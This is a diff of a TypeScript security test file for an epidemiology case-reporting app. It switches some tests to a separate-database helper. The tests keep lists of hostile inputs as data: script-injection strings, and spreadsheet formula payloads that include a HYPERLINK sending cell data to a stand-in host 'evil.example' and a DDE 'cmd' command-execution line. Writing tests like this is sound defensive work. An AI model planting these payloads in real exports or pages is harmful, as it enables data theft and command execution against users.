@@ -5,14 +5,16 @@ import { strFromU8, unzipSync } from 'fflate';
 import papaparse from 'papaparse';
 import { describe, expect, test } from 'vitest';
 import { runImport } from '../../src/features/cases/imports/run-import.ts';
-import { type TestHouse, withOwnDatabase } from '../db.ts';
+import { type TestHouse, withHouse, withOwnDatabase } from '../db.ts';
 import { givenAccount } from '../given-identity.ts';
 import { jpeg } from '../given-tasks.ts';
 import { ask, asked, tokenOf, withServer } from '../http.ts';
 import { type ImportAnswer, mappingOf } from './planted.ts';
 
 const village = '510117001001';
-const withApp = (work: Parameters<typeof withServer<TestHouse>>[0]) => withOwnDatabase(withServer<TestHouse>(work));
+const withApp = (work: Parameters<typeof withServer<TestHouse>>[0]) => withHouse(withServer<TestHouse>(work));
+/** An import tells its progress on a second connection, so that it needs a database of its own. */
+const withImports = (work: Parameters<typeof withServer<TestHouse>>[0]) => withOwnDatabase(withServer<TestHouse>(work));
 
 async function workerOf(app: FastifyInstance, house: TestHouse): Promise<string> {
   const { userName } = await givenAccount(house, { posts: [{ roles: ['epidemiologist', 'commander', 'grid-worker'] }] });
@@ -42,7 +44,7 @@ describe('stored scripts', () => {
     '{{constructor.constructor("alert(1)")()}}', '<a href="data:text/html,<script>1</script>">',
   ];
 
-  test('come back as data of a JSON answer that no browser takes for a page', withApp(async (app, house) => {
+  test('come back as data of a JSON answer that no browser takes for a page', withImports(async (app, house) => {
     const token = await workerOf(app, house);
     for (const name of markup) await report(app, token, { person: { name }, notes: name, hospital: name, symptoms: [name.slice(0, 60)], externalId: name });
     const id = await importList(app, house, token, `姓名,报告日期,备注,<b>列</b>\n${markup.map((each) => `"${each.replaceAll('"', '""')}",2026-03-01,x,"${each.replaceAll('"', '""')}"`).join('\n')}\n`);
@@ -135,7 +137,7 @@ describe('files', () => {
 describe('formulas of strangers in an export', () => {
   const formulas = [`=HYPERLINK("https://evil.example?"&A1,"x")`, `=cmd|'/c calc'!A1`, '+1+1', '-2+3', '@SUM(1)', '\t=1', '＝1+1', '=1\n=2', `'=1`];
 
-  test('stand as text: in cells, in free columns, and in the names of these columns', withApp(async (app, house) => {
+  test('stand as text: in cells, in free columns, and in the names of these columns', withImports(async (app, house) => {
     const token = await workerOf(app, house);
     for (const formula of formulas) await report(app, token, { notes: formula, hospital: formula, externalId: formula, reportingUnit: formula });
     const quoted = formulas.map((each) => `"${each.replaceAll('"', '""')}"`);
